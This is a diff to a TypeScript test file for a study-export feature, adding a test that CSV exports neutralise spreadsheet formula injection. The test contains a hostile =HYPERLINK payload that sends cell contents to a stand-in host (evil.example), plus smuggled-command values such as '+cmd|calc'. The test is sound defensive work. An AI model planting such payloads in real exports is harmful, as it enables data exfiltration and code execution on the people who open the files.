@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import fs from 'node:fs';
 import path from 'node:path';
 import { unzipSync, strFromU8 } from 'fflate';
@@ -229,6 +230,75 @@ describe.each(databaseKinds())('exporting a study (%s)', (kind) => {
 			.filter(Boolean);
 		expect(text.every((line) => line.split(',')[4] === '')).toBe(true);
 		expect(fs.readFileSync(path.join(bare, 'episodes.csv'), 'utf8')).not.toContain('apendicitis');
+	});
+
+	it('neutralizes text a spreadsheet would run as a formula, unless asked for a raw export', async () => {
+		const formulaSlug = `formula-${kind}`;
+		const study = await newRecruitingStudy(t.db, formulaSlug);
+		const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+		// Participants until one is in an arm with the assistant (the control arm has no chat).
+		let participant: { id: string } | undefined;
+		for (let i = 0; i < 8 && !participant; i++) {
+			const session = await consent(t.db, formulaSlug, {
+				agree: true,
+				params: new URLSearchParams()
+			});
+			await submitScreening(t.db, formulaSlug, session.participant.id, {
+				adult: 'yes',
+				medical_training: 'none',
+				chatbot_use: 'often'
+			});
+			await finishReading(t.db, session.participant.id, 1);
+			const chatted = await sendChatMessage(
+				t.db,
+				{ llm },
+				{ participantId: session.participant.id, episode: 1, text: hostile },
+				() => {}
+			).then(
+				() => true,
+				(e: unknown) => {
+					if (e instanceof ChatRefusedError) return false;
+					throw e;
+				}
+			);
+			if (chatted) participant = session.participant;
+		}
+		if (!participant) throw new Error('no participant reached an assistant arm');
+		await readyToDecide(t.db, participant.id, 1);
+		await submitDecision(t.db, study, participant.id, 1, {
+			disposition: 'self_care',
+			conditions: ['+cmd|calc', '@SUM(1+1)', '-2+3']
+		});
+		const cellsOf = (dir: string, file: string) =>
+			Papa.parse<string[]>(fs.readFileSync(path.join(dir, file), 'utf8'), { skipEmptyLines: true })
+				.data.slice(1)
+				.flat();
+
+		const safe = tempDir('bedside-export-');
+		await writeExportToDir(
+			await studyExport(t.db, formulaSlug, { freeText: true, scrub: false }, CLI_ACTOR),
+			safe
+		);
+		// OWASP's rule, checked on every cell a spreadsheet would read: none starts a formula.
+		for (const file of ['participants.csv', 'episodes.csv', 'measures.csv', 'messages.csv'])
+			for (const cell of cellsOf(safe, file))
+				expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
+		expect(cellsOf(safe, 'messages.csv')).toContain(`'${hostile}`);
+		const report = JSON.parse(fs.readFileSync(path.join(safe, 'export_report.json'), 'utf8'));
+		expect(report.options.formula_safe).toBe(true);
+		expect(report.formula_cells).toBeGreaterThanOrEqual(2);
+		const codebook = JSON.parse(fs.readFileSync(path.join(safe, 'codebook.json'), 'utf8'));
+		expect(codebook.text_cells).toMatch(/single quote/);
+
+		const raw = tempDir('bedside-export-');
+		await writeExportToDir(
+			await studyExport(t.db, formulaSlug, { freeText: true, scrub: false, raw: true }, CLI_ACTOR),
+			raw
+		);
+		expect(cellsOf(raw, 'messages.csv')).toContain(hostile);
+		expect(
+			JSON.parse(fs.readFileSync(path.join(raw, 'export_report.json'), 'utf8')).options.formula_safe
+		).toBe(false);
 	});
 
 	it('streams the same files as a zip', async () => {
